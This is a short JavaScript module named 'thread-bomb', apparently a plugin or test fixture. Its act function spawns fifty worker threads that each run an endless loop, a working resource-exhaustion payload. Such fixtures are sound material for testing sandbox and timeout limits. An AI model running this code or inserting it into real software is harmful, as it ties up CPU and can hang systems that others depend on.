// Starts threads without end.
export default {
  name: "thread-bomb",
  version: "1.0.0",
  create: () => ({
    act: async () => {
      const { Worker } = await import("node:worker_threads");
      for (let nth = 0; nth < 50; nth++) new Worker("for (;;);", { eval: true });
      return "call";
    },
  }),
};
